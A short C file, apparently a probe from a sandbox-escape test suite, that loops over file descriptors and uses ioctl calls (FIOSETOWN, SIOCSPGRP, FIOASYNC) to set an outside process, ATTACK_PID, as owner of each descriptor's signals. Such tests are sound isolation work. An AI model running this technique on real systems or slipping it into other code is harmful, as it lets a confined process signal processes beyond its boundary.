/* reaches outside the walls: process, the owner of a descriptor's signals, by ioctl */
#include "attack.h"
#include <asm/ioctls.h>
#include <asm/sockios.h>

static void reach(void)
{
    int owner = ATTACK_PID, on = 1;
    for (int f = 0; f < 1024; f++) {
        ioctl(f, FIOSETOWN, &owner);
        ioctl(f, SIOCSPGRP, &owner);
        ioctl(f, FIOASYNC, &on);
    }
}
